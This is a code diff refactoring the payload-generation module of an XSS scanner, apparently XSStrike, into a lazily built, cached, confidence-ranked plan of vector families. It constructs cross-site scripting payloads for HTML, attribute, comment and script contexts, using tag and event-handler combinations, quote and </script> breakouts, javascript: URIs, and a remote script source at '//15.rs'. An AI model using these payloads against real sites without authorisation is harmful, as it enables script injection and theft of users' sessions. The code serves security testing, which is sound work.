@@ -1,9 +1,204 @@
-from core.config import xsschecker, badTags, getPayloadConfig
+import json
+import threading
+from collections import namedtuple
+from functools import partial
+
+import core.config
+from core.config import xsschecker, getPayloadConfig, slim_config
 from core.jsContexter import jsContexter
-from core.utils import randomUpper as r, genGen, extractScripts
+from core.log import setup_logger
+from core.planCache import PlanCache
+from core.utils import randomUpper as r, genFamilies, extractScripts
 
+logger = setup_logger(__name__)
 
-def generator(occurences, response):
+# a group of similar vectors, build() returns a generator of them
+Family = namedtuple('Family', 'confidence context name size build')
+
+_planCache = None
+_planCacheLock = threading.Lock()
+
+
+def getPlanCache():
+    """Get the shared payload plan cache, or None if it is disabled"""
+    global _planCache
+    if not core.config.planCacheSize:
+        return None
+    with _planCacheLock:
+        if _planCache is None:
+            _planCache = PlanCache(core.config.planCache, core.config.planCacheSize)
+        return _planCache
+
+
+def savePlanCache():
+    cache = getPlanCache()
+    if cache is None:
+        return
+    cache.save()
+    logger.debug('Payload plan cache: {}'.format(cache.summary()))
+
+
+class Plan:
+    """
+    Lazy stream of (confidence, vector), highest confidence first
+
+    Vectors are only built while the plan is iterated over, so probing can
+    start as soon as the first one is ready. Vectors planned more than once
+    are only yielded once.
+    """
+
+    def __init__(self, order=None):
+        self.families = []
+        self.order = order  # sorts the families, see VectorScores.order()
+
+    def add(self, confidence, context, name, size, build):
+        if size:
+            self.families.append(Family(confidence, context, name, size, build))
+        return bool(size)
+
+    def extend(self, confidence, context, families, transform=None):
+        """Add the families of genFamilies(), returns True if they have any vector"""
+        found = False
+        for name, size, build in families:
+            if transform:
+                build = partial(_transformed, build, transform)
+            found = self.add(confidence, context, name, size, build) or found
+        return found
+
+    @property
+    def size(self):
+        """Number of vectors planned, duplicates included"""
+        return sum(family.size for family in self.ordered())
+
+    def ordered(self):
+        if self.order:
+            return self.order(self.families)
+        return sorted(self.families, key=lambda family: -family.confidence)
+
+    def walk(self):
+        """Yield (family, vector) in order"""
+        seen = set()  # hashes are much smaller than the vectors themselves
+        for family in self.ordered():
+            for vector in family.build():
+                key = hash(vector)
+                if key not in seen:
+                    seen.add(key)
+                    yield family, vector
+
+    def __iter__(self):
+        for family, vector in self.walk():
+            yield family.confidence, vector
+
+
+def _transformed(build, transform):
+    for vector in build():
+        yield transform(vector)
+
+
+def _closeTag(quote, vector):
+    return quote + '>' + vector
+
+
+def _closeScript(quote, vector):
+    return quote + '>' + r('</script/>') + vector
+
+
+def _autofocus(quote, fillings, functions):
+    for filling in fillings:
+        for function in functions:
+            yield quote + filling + r('autofocus') + filling + r('onfocus') + '=' + quote + function
+
+
+def _escapedAutofocus(quote, fillings, functions):
+    for filling in fillings:
+        for function in functions:
+            yield '\\' + quote + filling + r('autofocus') + filling + \
+                r('onfocus') + '=' + function + filling + '\\' + quote
+
+
+def _jsBreakout(quote, closer, jFillings, functions):
+    suffix = '//\\'
+    for filling in jFillings:
+        for function in functions:
+            yield quote + closer + filling + function + suffix
+
+
+def _escapedJsBreakout(prefix, quote, closer, jFillings, functions):
+    suffix = '//'
+    for filling in jFillings:
+        for function in functions:
+            if '=' in function:
+                function = '(' + function + ')'
+            if quote == '':
+                filling = ''
+            yield prefix + quote + closer + filling + function + suffix
+
+
+def _javascriptUri(functions):
+    for function in functions:
+        yield r('javascript:') + function
+
+
+def signature(occurence, script=None):
+    """Everything about a reflection its planned vectors depend on, as a string"""
+    context = occurence['context']
+    details = occurence['details']
+    name = details.get('name') or ''
+    value = details.get('value') or ''
+    closer = jsQuote = None
+    if context == 'script':
+        closer = jsContexter(script)
+    elif context == 'attribute' and name.startswith('on'):
+        closer = jsContexter(value)
+        jsQuote = next((char for char in value.partition(xsschecker)[2] if char in '\'"`'), '')
+    return json.dumps([
+        'slim' if getPayloadConfig() is slim_config else 'full', context,
+        details.get('tag'), details.get('type'), details.get('quote'), name,
+        value == xsschecker, closer, jsQuote, details.get('badTag'),
+        sorted(occurence['score'].items())])
+
+
+def plan(occurences, response, order=None):
+    """
+    Plan the vectors worth trying against the reflections
+
+    Reflections sharing a signature() share the families planned for the
+    first of them, see core.planCache. order sorts the families, highest
+    confidence first by default.
+
+    Returns:
+        Plan of vector families tagged with their confidence and context
+    """
+    cache = getPlanCache()
+    scripts = extractScripts(response)
+    index = 0
+    vectors = Plan(order)
+    planned = set()
+    for i in occurences:
+        script = None
+        if occurences[i]['context'] == 'script':
+            if not scripts:
+                continue
+            try:
+                script = scripts[index]
+            except IndexError:
+                script = scripts[0]
+            index += 1
+        key = signature(occurences[i], script)
+        if key in planned:  # its vectors are in the plan already
+            continue
+        planned.add(key)
+        families = cache.get(key) if cache else None
+        if families is None:
+            fresh = Plan()
+            _plan(fresh, occurences[i], script)
+            families = cache.put(key, fresh.families) if cache else fresh.families
+        vectors.families.extend(families)
+    return vectors
+
+
+def _plan(vectors, occurence, script):
+    """Add the families worth trying against one reflection to vectors"""
     # Get currently active payload configuration
     config = getPayloadConfig()
     fillings = config['fillings']
@@ -13,170 +208,113 @@ def generator(occurences, response):
     eventHandlers = config['eventHandlers']
     tags = config['tags']
     functions = config['functions']
-    
-    scripts = extractScripts(response)
-    index = 0
+
+    context = occurence['context']
+    if context == 'html':
+        lessBracketEfficiency = occurence['score']['<']
+        greatBracketEfficiency = occurence['score']['>']
+        ends = ['//']
+        badTag = occurence['details']['badTag'] if 'badTag' in occurence['details'] else ''
+        if greatBracketEfficiency == 100:
+            ends.append('>')
+        if lessBracketEfficiency:
+            vectors.extend(10, context, genFamilies(
+                fillings, eFillings, lFillings, eventHandlers, tags, functions, ends, badTag))
+    elif context == 'attribute':
+        found = False
+        tag = occurence['details']['tag']
+        Type = occurence['details']['type']
+        quote = occurence['details']['quote'] or ''
+        attributeName = occurence['details']['name']
+        attributeValue = occurence['details']['value']
+        quoteEfficiency = occurence['score'][quote] if quote in occurence['score'] else 100
+        greatBracketEfficiency = occurence['score']['>']
+        ends = ['//']
+        if greatBracketEfficiency == 100:
+            ends.append('>')
+        if greatBracketEfficiency == 100 and quoteEfficiency == 100:
+            found = vectors.extend(9, context, genFamilies(
+                fillings, eFillings, lFillings, eventHandlers, tags, functions, ends),
+                partial(_closeTag, quote)) or found
+        if quoteEfficiency == 100:
+            found = vectors.add(8, context, 'autofocus', len(fillings) * len(functions),
+                                partial(_autofocus, quote, fillings, functions)) or found
+        if quoteEfficiency == 90:
+            found = vectors.add(7, context, 'autofocus', len(fillings) * len(functions),
+                                partial(_escapedAutofocus, quote, fillings, functions)) or found
+        if Type == 'value':
+            if attributeName == 'srcdoc':
+                if occurence['score']['&lt;']:
+                    if occurence['score']['&gt;']:
+                        del ends[:]
+                        ends.append('%26gt;')
+                    found = vectors.extend(9, context, genFamilies(
+                        fillings, eFillings, lFillings, eventHandlers, tags, functions, ends),
+                        lambda vector: vector.replace('<', '%26lt;')) or found
+            elif attributeName == 'href' and attributeValue == xsschecker:
+                found = vectors.add(10, context, 'javascript:', len(functions),
+                                    partial(_javascriptUri, functions)) or found
+            elif attributeName.startswith('on'):
+                closer = jsContexter(attributeValue)
+                quote = ''
+                for char in attributeValue.split(xsschecker)[1]:
+                    if char in ['\'', '"', '`']:
+                        quote = char
+                        break
+                confidence = 7 if found else 9
+                vectors.add(confidence, context, 'js-breakout', len(jFillings) * len(functions),
+                            partial(_jsBreakout, quote, closer, jFillings, functions))
+                if quoteEfficiency > 83:
+                    vectors.add(confidence, context, 'js-escape', len(jFillings) * len(functions),
+                                partial(_escapedJsBreakout, '\\', quote, closer, jFillings, functions))
+            elif tag in ('script', 'iframe', 'embed', 'object'):
+                if attributeName in ('src', 'iframe', 'embed') and attributeValue == xsschecker:
+                    vectors.add(10, context, 'source', 2, partial(iter, ('//15.rs', '\\/\\\\\\/\\15.rs')))
+                elif tag == 'object' and attributeName == 'data' and attributeValue == xsschecker:
+                    found = vectors.add(10, context, 'javascript:', len(functions),
+                                        partial(_javascriptUri, functions)) or found
+                elif quoteEfficiency == greatBracketEfficiency == 100:
+                    found = vectors.extend(11, context, genFamilies(
+                        fillings, eFillings, lFillings, eventHandlers, tags, functions, ends),
+                        partial(_closeScript, quote)) or found
+    elif context == 'comment':
+        lessBracketEfficiency = occurence['score']['<']
+        greatBracketEfficiency = occurence['score']['>']
+        ends = ['//']
+        if greatBracketEfficiency == 100:
+            ends.append('>')
+        if lessBracketEfficiency == 100:
+            vectors.extend(10, context, genFamilies(
+                fillings, eFillings, lFillings, eventHandlers, tags, functions, ends))
+    elif context == 'script':
+        closer = jsContexter(script)
+        quote = occurence['details']['quote']
+        scriptEfficiency = occurence['score']['</scRipT/>']
+        greatBracketEfficiency = occurence['score']['>']
+        breakerEfficiency = 100
+        if quote:
+            breakerEfficiency = occurence['score'][quote]
+        ends = ['//']
+        if greatBracketEfficiency == 100:
+            ends.append('>')
+        if scriptEfficiency == 100:
+            vectors.extend(10, context, genFamilies(
+                fillings, eFillings, lFillings, eventHandlers, tags, functions, ends))
+        if closer:
+            vectors.add(7, context, 'js-breakout', len(jFillings) * len(functions),
+                        partial(_jsBreakout, quote, closer, jFillings, functions))
+        elif breakerEfficiency > 83:
+            prefix = ''
+            if breakerEfficiency != 100:
+                prefix = '\\'
+            vectors.add(6, context, 'js-escape', len(jFillings) * len(functions),
+                        partial(_escapedJsBreakout, prefix, quote, closer, jFillings, functions))
+
+
+def generator(occurences, response):
+    """All planned vectors at once, {confidence: set of vectors}"""
     vectors = {11: set(), 10: set(), 9: set(), 8: set(), 7: set(),
                6: set(), 5: set(), 4: set(), 3: set(), 2: set(), 1: set()}
-    for i in occurences:
-        context = occurences[i]['context']
-        if context == 'html':
-            lessBracketEfficiency = occurences[i]['score']['<']
-            greatBracketEfficiency = occurences[i]['score']['>']
-            ends = ['//']
-            badTag = occurences[i]['details']['badTag'] if 'badTag' in occurences[i]['details'] else ''
-            if greatBracketEfficiency == 100:
-                ends.append('>')
-            if lessBracketEfficiency:
-                payloads = genGen(fillings, eFillings, lFillings,
-                                  eventHandlers, tags, functions, ends, badTag)
-                for payload in payloads:
-                    vectors[10].add(payload)
-        elif context == 'attribute':
-            found = False
-            tag = occurences[i]['details']['tag']
-            Type = occurences[i]['details']['type']
-            quote = occurences[i]['details']['quote'] or ''
-            attributeName = occurences[i]['details']['name']
-            attributeValue = occurences[i]['details']['value']
-            quoteEfficiency = occurences[i]['score'][quote] if quote in occurences[i]['score'] else 100
-            greatBracketEfficiency = occurences[i]['score']['>']
-            ends = ['//']
-            if greatBracketEfficiency == 100:
-                ends.append('>')
-            if greatBracketEfficiency == 100 and quoteEfficiency == 100:
-                payloads = genGen(fillings, eFillings, lFillings,
-                                  eventHandlers, tags, functions, ends)
-                for payload in payloads:
-                    payload = quote + '>' + payload
-                    found = True
-                    vectors[9].add(payload)
-            if quoteEfficiency == 100:
-                for filling in fillings:
-                    for function in functions:
-                        vector = quote + filling + r('autofocus') + \
-                            filling + r('onfocus') + '=' + quote + function
-                        found = True
-                        vectors[8].add(vector)
-            if quoteEfficiency == 90:
-                for filling in fillings:
-                    for function in functions:
-                        vector = '\\' + quote + filling + r('autofocus') + filling + \
-                            r('onfocus') + '=' + function + filling + '\\' + quote
-                        found = True
-                        vectors[7].add(vector)
-            if Type == 'value':
-                if attributeName == 'srcdoc':
-                    if occurences[i]['score']['&lt;']:
-                        if occurences[i]['score']['&gt;']:
-                            del ends[:]
-                            ends.append('%26gt;')
-                        payloads = genGen(
-                            fillings, eFillings, lFillings, eventHandlers, tags, functions, ends)
-                        for payload in payloads:
-                            found = True
-                            vectors[9].add(payload.replace('<', '%26lt;'))
-                elif attributeName == 'href' and attributeValue == xsschecker:
-                    for function in functions:
-                        found = True
-                        vectors[10].add(r('javascript:') + function)
-                elif attributeName.startswith('on'):
-                    closer = jsContexter(attributeValue)
-                    quote = ''
-                    for char in attributeValue.split(xsschecker)[1]:
-                        if char in ['\'', '"', '`']:
-                            quote = char
-                            break
-                    suffix = '//\\'
-                    for filling in jFillings:
-                        for function in functions:
-                            vector = quote + closer + filling + function + suffix
-                            if found:
-                                vectors[7].add(vector)
-                            else:
-                                vectors[9].add(vector)
-                    if quoteEfficiency > 83:
-                        suffix = '//'
-                        for filling in jFillings:
-                            for function in functions:
-                                if '=' in function:
-                                    function = '(' + function + ')'
-                                if quote == '':
-                                    filling = ''
-                                vector = '\\' + quote + closer + filling + function + suffix
-                                if found:
-                                    vectors[7].add(vector)
-                                else:
-                                    vectors[9].add(vector)
-                elif tag in ('script', 'iframe', 'embed', 'object'):
-                    if attributeName in ('src', 'iframe', 'embed') and attributeValue == xsschecker:
-                        payloads = ['//15.rs', '\\/\\\\\\/\\15.rs']
-                        for payload in payloads:
-                            vectors[10].add(payload)
-                    elif tag == 'object' and attributeName == 'data' and attributeValue == xsschecker:
-                        for function in functions:
-                            found = True
-                            vectors[10].add(r('javascript:') + function)
-                    elif quoteEfficiency == greatBracketEfficiency == 100:
-                        payloads = genGen(fillings, eFillings, lFillings,
-                                          eventHandlers, tags, functions, ends)
-                        for payload in payloads:
-                            payload = quote + '>' + r('</script/>') + payload
-                            found = True
-                            vectors[11].add(payload)
-        elif context == 'comment':
-            lessBracketEfficiency = occurences[i]['score']['<']
-            greatBracketEfficiency = occurences[i]['score']['>']
-            ends = ['//']
-            if greatBracketEfficiency == 100:
-                ends.append('>')
-            if lessBracketEfficiency == 100:
-                payloads = genGen(fillings, eFillings, lFillings,
-                                  eventHandlers, tags, functions, ends)
-                for payload in payloads:
-                    vectors[10].add(payload)
-        elif context == 'script':
-            if scripts:
-                try:
-                    script = scripts[index]
-                except IndexError:
-                    script = scripts[0]
-            else:
-                continue
-            closer = jsContexter(script)
-            quote = occurences[i]['details']['quote']
-            scriptEfficiency = occurences[i]['score']['</scRipT/>']
-            greatBracketEfficiency = occurences[i]['score']['>']
-            breakerEfficiency = 100
-            if quote:
-                breakerEfficiency = occurences[i]['score'][quote]
-            ends = ['//']
-            if greatBracketEfficiency == 100:
-                ends.append('>')
-            if scriptEfficiency == 100:
-                breaker = r('</script/>')
-                payloads = genGen(fillings, eFillings, lFillings,
-                                  eventHandlers, tags, functions, ends)
-                for payload in payloads:
-                    vectors[10].add(payload)
-            if closer:
-                suffix = '//\\'
-                for filling in jFillings:
-                    for function in functions:
-                        vector = quote + closer + filling + function + suffix
-                        vectors[7].add(vector)
-            elif breakerEfficiency > 83:
-                prefix = ''
-                suffix = '//'
-                if breakerEfficiency != 100:
-                    prefix = '\\'
-                for filling in jFillings:
-                    for function in functions:
-                        if '=' in function:
-                            function = '(' + function + ')'
-                        if quote == '':
-                            filling = ''
-                        vector = prefix + quote + closer + filling + function + suffix
-                        vectors[6].add(vector)
-            index += 1
+    for confidence, vector in plan(occurences, response):
+        vectors[confidence].add(vector)
     return vectors